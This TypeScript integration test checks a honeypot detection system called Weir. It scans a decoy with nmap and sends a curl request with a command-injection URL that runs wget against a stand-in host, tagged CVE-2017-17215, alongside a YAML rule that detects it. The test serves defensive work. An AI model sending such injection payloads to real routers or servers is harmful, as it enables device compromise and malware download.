// What somebody did, read back as a defender would: a scan and an exploit against a whole Weir become verdicts with evidence,
// a signature with what it captured, a place and the attacker's page; a killed recorder goes on with the same verdict.

import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { withWeirLab } from '../../src/programs/weir-lab.ts';
import type { AttackerPageDocument, VerdictDocument } from '../../src/record/insight-documents.ts';
import { lacksKernelTests, until } from '../support/namespace.ts';

/** Public, so that the tables know where it is; it never leaves the lab. */
const source = '8.8.8.77';
const decoy = '10.64.0.9';

const configuration = `
diversions:
  - { name: dmz, kind: host, interface: eth0, decoys: [{ addresses: 10.64.0.0/24, persona: all-open }] }
analysis:
  rules: [RULES, RULES-missing.yaml]
`;

const rules = `
- id: own-shell-download
  name: Download asked of a shell
  intention: exploit
  severity: high
  cves: [CVE-2017-17215]
  techniques: [T1190]
  match: [{ contains: "/shell?" }]
  captures: { url: "wget.(http://[0-9a-z./]+)" }
`;

test('a scan and an exploit are verdicts, signatures and a page, also over a killed recorder', { skip: lacksKernelTests() }, () =>
  withWeirLab({ configuration }, async (lab) => {
    const own = join(lab.directory, 'rules');
    mkdirSync(own, { mode: 0o755 });
    writeFileSync(join(own, 'own.yaml'), rules, { mode: 0o644 });
    lab.configure(configuration.replaceAll('RULES', own));
    await lab.sensor.ip('route add 8.8.8.0/24 dev eth0\n');
    await lab.attacker.ip(`addr add ${source}/32 dev eth0\nroute add 10.64.0.0/24 dev eth0 src ${source}\n`);
    await lab.up();
    await lab.attack(['nmap', '-sT', '-Pn', '-n', '--max-retries', '0', '-p', '1-40', decoy]);
    const url = `http://${decoy}:8088/shell?cd+/tmp;wget+http://192.0.2.9/x`;
    await lab.attack(['curl', '-s', '-m', '5', '-A', 'own-agent/1.0', '-o', '/dev/null', url]);

    const verdicts = (count: number, behaviour: string): Promise<VerdictDocument[]> =>
      lab.recorded(['verdicts', '--behaviour', behaviour], count) as unknown as Promise<VerdictDocument[]>;
    const [scan] = await verdicts(1, 'port-scan');
    assert.equal(scan.source.ip, source);
    assert.equal(scan.destination?.ip, decoy);
    assert.match(scan.weir.verdict.evidence.join('\n'), /ports/);
    assert.deepEqual(scan.source.geo, { country_iso_code: 'US' });
    assert.equal(scan.source.as?.number, 15_169);
    const [exploitation] = await verdicts(1, 'exploitation');
    assert.ok(exploitation.vulnerability?.id.includes('CVE-2017-17215'));

    const [marked] = await lab.records(['sessions', '--port', '8088']);
    const session = JSON.parse((await lab.weir(['session', (marked.event as { id: string }).id, '--json'])).stdout);
    const hit = session.session.weir.signatures.find(({ id }: { id: string }) => id === 'own-shell-download');
    assert.equal(hit?.captures.url, 'http://192.0.2.9/x');
    assert.ok(session.session.weir.signatures.length > 1, 'rules that come with Weir match too');
    assert.ok(session.session.weir.facts.some(({ value }: { value: string }) => value === 'http://192.0.2.9/x'));
    assert.ok(session.verdicts.some(({ weir }: VerdictDocument) => weir.verdict.behaviour === 'exploitation'));

    const page = async (): Promise<AttackerPageDocument> =>
      JSON.parse((await lab.weir(['attacker', source, '--json'])).stdout) as AttackerPageDocument;
    const first = await page();
    assert.ok(first.attacker.weir.attacker.ports >= 41);
    assert.deepEqual([...first.attacker.weir.attacker.behaviours].sort().slice(0, 2), ['exploitation', 'port-scan']);
    assert.match(first.families.map(({ label }) => label).join('; '), /\/shell/);
    assert.match((await lab.weir(['attacker', source])).stdout, /US, AS15169 [\s\S]*exploitation[\s\S]*own-agent\/1\.0/);
    const status = await lab.reader.status();
    assert.ok((status.analysis?.rules ?? 0) >= 1 && (status.analysis?.sessions ?? 0) >= 41);
    assert.ok(status.reasons?.some((reason) => reason.includes('rules-missing.yaml')));

    const recorder = lab.processes().get('recorder') ?? assert.fail('no recorder');
    process.kill(recorder, 'SIGKILL');
    await lab.attack(['nmap', '-sT', '-Pn', '-n', '--max-retries', '0', '-p', '41-80', decoy]);
    const grown = await until(
      'the same verdict grows after the restart',
      async () => {
        const found = (await lab
          .records(['verdicts', '--behaviour', 'port-scan'])
          .catch(() => [])) as unknown as VerdictDocument[];
        return found.some(({ weir }) => weir.verdict.ports >= 80) ? found : undefined;
      },
      60_000,
    );
    assert.deepEqual(
      grown.map(({ event }) => event.id),
      [scan.event.id],
    );
  }),
);
